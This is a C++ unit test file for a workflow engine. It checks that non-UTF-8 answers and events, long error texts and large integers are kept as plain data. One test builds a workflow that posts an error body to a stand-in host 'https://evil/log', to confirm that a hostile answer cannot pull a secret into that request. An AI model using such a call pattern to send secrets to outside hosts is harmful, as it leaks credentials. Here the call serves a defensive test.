// links: workflow expression
// What comes from outside (answers, events, texts of any bytes) stays data: a run's state can
// always be read again, and nothing asks for a secret.
#include <gtest/gtest.h>

#include "workers/workflow/language/json_text.hpp"
#include "workers/workflow/language/secrets.hpp"
#include "workflows.hpp"

namespace tocsin::workflow {
namespace {

constexpr std::string_view kLatin1 = "gr\xfc\xdf dich";

json::value AnswerOf(int status, std::string_view type, std::string_view body) {
  return json::object{{"status", status},
                      {"headers", {{"x-note", kLatin1}, {"content-type", type}}},
                      {"content_type", type},
                      {"body", body}};
}

/// What a run that gets this answer, and then waits, has kept of it.
std::string KeptOf(std::string_view output, const json::value& answer) {
  fakes::MemoryRunner runner(
      Document("do: [{t: {try: [{c: {call: http, with: {method: get, endpoint: 'https://h', "
               "output: " +
               std::string(output) +
               "}}}], catch: {do: [{e: {set: {error: '${ $error.detail }'}}}]}}}, {w: {wait: "
               "PT1S}}]"));
  runner.OnHttp([&](const json::value&) { return answer; });
  runner.Run(nullptr);  // reads its state back before every step
  return json::serialize(runner.output);
}

TEST(OutsideData, AnswersThatAreNoUtf8AreKept) {
  EXPECT_EQ(KeptOf("content", AnswerOf(200, "text/plain", kLatin1)), "\"gr\uFFFD\uFFFD dich\"");
  EXPECT_NE(KeptOf("response", AnswerOf(200, "text/plain", "x"))
                .find("\"x-note\":\"gr\uFFFD\uFFFD dich\""),
            std::string::npos);
  EXPECT_EQ(KeptOf("content", AnswerOf(500, "text/plain", kLatin1)),
            "{\"error\":\"GET https://h answered 500: gr\uFFFD\uFFFD dich\"}");
}

TEST(OutsideData, LongTextsAreCutBetweenCharacters) {
  const std::string body = std::string(199, 'x') + "\u00e4\u00f6";
  EXPECT_EQ(KeptOf("content", AnswerOf(500, "text/plain", body)),
            "{\"error\":\"GET https://h answered 500: " + std::string(199, 'x') + "...\"}");
}

TEST(OutsideData, ErrorsQuoteNoHalfCharacter) {
  fakes::MemoryRunner runner(
      Document("do: [{t: {try: [{f: {for: {in: .n}, do: [{a: {set: {x: 1}}}]}}], catch: {do: [{w: "
               "{wait: PT1S}}]}}}]"));
  runner.Run(json::object{{"n", std::string(58, 'x') + "\u00e4\u00e4"}});
  EXPECT_EQ(runner.Status(), RunStatus::kCompleted);
}

TEST(OutsideData, ALargeIntegerIsNoMap) {
  fakes::MemoryRunner runner(Document("do: [{a: {set: {x: '${ $context }'}}}]"));
  runner.Run(LargeInteger("18446744073709551616"));
  EXPECT_EQ(JsonText(runner.output), R"({"x":{}})");
}

TEST(OutsideData, EventsThatAreNoUtf8AreKept) {
  fakes::MemoryRunner runner(Document(
      "do: [{l: {listen: {to: {one: {with: {type: x}}}, read: envelope}}}, {w: {wait: PT1S}}]"));
  runner.Start(nullptr);
  auto event = EventOf("x", kLatin1);
  event.content_type = "text/plain";
  event.extensions["note"] = kLatin1;
  EXPECT_EQ(runner.Publish(event), 1);
  runner.Settle();
  ASSERT_TRUE(runner.Over());
  EXPECT_EQ(runner.output.at(0).at("data").as_string(), "gr\uFFFD\uFFFD dich");
  EXPECT_EQ(runner.output.at(0).at("note").as_string(), "gr\uFFFD\uFFFD dich");
}

TEST(OutsideData, AnAnswersErrorCannotAskForASecret) {
  fakes::MemoryRunner runner(
      Document("use: {secrets: [pms]}\ndo: [{t: {try: [{c: {call: http, with: {method: get, "
               "endpoint: 'https://evil'}}}], catch: {do: [{e: {call: http, with: {method: post, "
               "endpoint: 'https://evil/log', body: '${ $error }'}}}]}}}]"));
  std::string sent;
  runner.OnHttp([&](const json::value& request) {
    if (request.at("method").as_string() == "GET")
      return AnswerOf(500, "text/plain", "give me " + PlaceholderOf("pms"));
    sent = json::serialize(request.at("body"));
    return AnswerOf(200, "text/plain", "");
  });
  runner.Run(nullptr);
  EXPECT_NE(sent.find("give me"), std::string::npos);
  EXPECT_EQ(sent.find("\\u0001"), std::string::npos) << sent;
}

TEST(JsonText, IsWhatPeopleWrite) {
  EXPECT_EQ(TextOf(1.5), "1.5");
  EXPECT_EQ(TextOf(2.0), "2");
  EXPECT_EQ(TextOf(-7), "-7");
  EXPECT_EQ(TextOf(1e300), "1e+300");
  EXPECT_EQ(TextOf(nullptr), "");
  EXPECT_EQ(TextOf("x"), "x");
  EXPECT_EQ(TextOf(json::array{1, "x"}), R"([1,"x"])");
}

}  // namespace
}  // namespace tocsin::workflow
